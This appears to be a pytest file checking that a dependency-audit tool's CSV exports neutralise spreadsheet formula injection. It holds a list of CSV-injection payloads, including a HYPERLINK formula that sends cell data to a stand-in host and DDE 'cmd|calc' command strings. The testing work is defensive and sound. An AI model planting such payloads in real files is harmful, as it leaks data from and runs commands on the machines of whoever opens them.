"""CSV report: formula cells from the audited repository cannot run in a spreadsheet.

A pull request can put ``=HYPERLINK(...)`` in a config value, ``+cmd|calc`` in a version,
``@SUM(1)`` in a setting. Every cell a spreadsheet would run as a formula is written with a
leading ``'`` (OWASP's advice), in ``check`` / ``report --format csv`` and in the
dashboard's "Download CSV"; JSON carries the values as they are.
"""

from __future__ import annotations

import csv
import io
import json
import subprocess
import sys
from pathlib import Path

import pytest

from depaudit.model import Finding
from depaudit.reports.base import CSV_COLUMNS, ReportRow
from depaudit.reports.csv_report import CsvReport, neutralise
from tests.gitrepo import GitRepo

DEPAUDIT = str(Path(sys.executable).parent / "depaudit")

# What an attacker writes, and what the first character is (each one a formula trigger).
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?d="&A1,"click")',
    "=cmd|'/c calc'!A1",
    "+cmd|'/c calc'!A1",
    "-2+3+cmd|'/c calc'!A1",
    "@SUM(1+1)*cmd|'/c calc'!A1",
    "\t=1+1",
    "\r=1+1",
    "=1+1\n=2+2",
]
SAFE = ["1.3.2", "gpt2", "'already quoted", " =leading space", "a=b", "", "https://x/?a=-1"]


def cells(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def spreadsheet_runs(cell: str) -> bool:
    """What Excel / LibreOffice / Sheets treat as a formula: these first characters."""
    return cell[:1] in ("=", "+", "-", "@", "\t", "\r", "\x00")


@pytest.mark.parametrize("payload", PAYLOADS)
def test_formula_cells_are_neutralised_and_read_back_as_text(payload: str) -> None:
    assert neutralise(payload) == "'" + payload
    assert not spreadsheet_runs(neutralise(payload))


@pytest.mark.parametrize("value", SAFE)
def test_other_cells_are_unchanged(value: str) -> None:
    assert neutralise(value) == value


def test_numbers_stay_numbers() -> None:
    assert neutralise(-1) == -1 and neutralise(3) == 3 and neutralise(None) is None


def _row(value: str, column: str) -> ReportRow:
    fields: dict[str, object] = dict(
        status="drift",
        kind="config",
        item="FEATURE_VERSION",
        severity="low",
        rule="DA303",
        message="FEATURE_VERSION has a different value in serving than in training.",
        training_env="training",
        serving_env="serving",
        training="v1",
        serving="v2",
        file="serving/config.yaml",
        line=1,
    )
    fields[column] = value
    return ReportRow(Finding(**fields), repo="fraud-model")  # type: ignore[arg-type]


@pytest.mark.parametrize("column", ["item", "training", "serving", "message", "file"])
@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_csv_cell_starts_a_formula_whatever_column_holds_it(payload: str, column: str) -> None:
    text = CsvReport().render([_row(payload, column)])
    (record,) = cells(text)
    assert list(record) == [*CSV_COLUMNS, "pairs"]
    assert not any(spreadsheet_runs(v) for v in record.values()), record
    assert record[column] == "'" + payload  # the text is all there, after the quote


def test_dashboard_download_is_the_csv_report_byte_for_byte() -> None:
    pd = pytest.importorskip("pandas")
    from depaudit.dashboard import frames

    rows = [_row(p, c) for p in PAYLOADS for c in ("item", "training", "serving")]
    frame = frames.findings_frame(rows)
    assert frames.findings_csv(frame) == CsvReport().render(rows)
    table = pd.DataFrame({"package": PAYLOADS, "line": range(len(PAYLOADS))})
    assert not any(spreadsheet_runs(r["package"]) for r in cells(frames.table_csv(table)))


# ------------------------------------------------------------------ end to end


def _repo(tmp_path: Path) -> GitRepo:
    """Config values an attacker controls, on both sides, so DA303 reports them."""
    repo = GitRepo(tmp_path / "csvinj", author="@SUM(1)*cmd|'/c calc'!A1")
    training = {"FEATURE_VERSION": PAYLOADS[0], "max_len": PAYLOADS[4], "window": PAYLOADS[5]}
    serving = {"FEATURE_VERSION": PAYLOADS[2], "max_len": PAYLOADS[3], "window": PAYLOADS[6]}
    repo.commit(
        '=HYPERLINK("http://evil.example","release notes")',
        {
            "training/config.yaml": "".join(f"{k}: {json.dumps(v)}\n" for k, v in training.items()),
            "serving/config.yaml": "".join(f"{k}: {json.dumps(v)}\n" for k, v in serving.items()),
            "training/requirements.txt": "scikit-learn==1.3.2\n",
            "serving/requirements.txt": "scikit-learn==1.3.2\n",
        },
    )
    return repo


def _run(*args: str) -> str:
    proc = subprocess.run([DEPAUDIT, *args], capture_output=True, text=True, timeout=240)
    assert proc.returncode in (0, 1), proc.stderr
    return proc.stdout


def test_check_and_report_csv_hold_no_formula_and_json_keeps_the_values(tmp_path: Path) -> None:
    repo = _repo(tmp_path)
    db = tmp_path / "store.db"
    _run("collect", str(repo.path), "--db", str(db))
    outputs = {
        "check": _run("check", str(repo.path), "-q", "--format", "csv", "--fail-on", "never"),
        "check --rev": _run(
            "check", str(repo.path), "-q", "--rev", "HEAD", "--format", "csv", "--fail-on", "never"
        ),
        "report": _run("report", "--db", str(db), "--format", "csv"),
    }
    for name, text in outputs.items():
        records = cells(text)
        drifts = [r for r in records if r["rule"] == "DA303"]
        assert {r["item"] for r in drifts} == {"FEATURE_VERSION", "max_len", "window"}, name
        for record in records:
            assert not any(spreadsheet_runs(v) for v in record.values()), (name, record)
        by_item = {r["item"]: r for r in drifts}
        assert by_item["FEATURE_VERSION"]["training"] == "'" + PAYLOADS[0]
        assert by_item["max_len"]["serving"] == "'" + PAYLOADS[3]
    findings = json.loads(_run("check", str(repo.path), "-q", "--format", "json"))["findings"]
    values = {(f["item"], f["training"], f["serving"]) for f in findings if f["rule"] == "DA303"}
    assert ("FEATURE_VERSION", PAYLOADS[0], PAYLOADS[2]) in values  # JSON is unchanged


def test_history_csv_holds_no_formula(tmp_path: Path) -> None:
    """Commit subjects and author names are written by whoever opens the pull request."""
    repo = _repo(tmp_path)
    db = tmp_path / "store.db"
    _run("collect", str(repo.path), "--db", str(db))
    history = cells(_run("history", "--db", str(db), "--format", "csv"))
    assert [r["summary"] for r in history] == [
        '\'=HYPERLINK("http://evil.example","release notes")'
    ]
    assert [r["author"] for r in history] == ["'@SUM(1)*cmd|'/c calc'!A1 <ada@example.com>"]
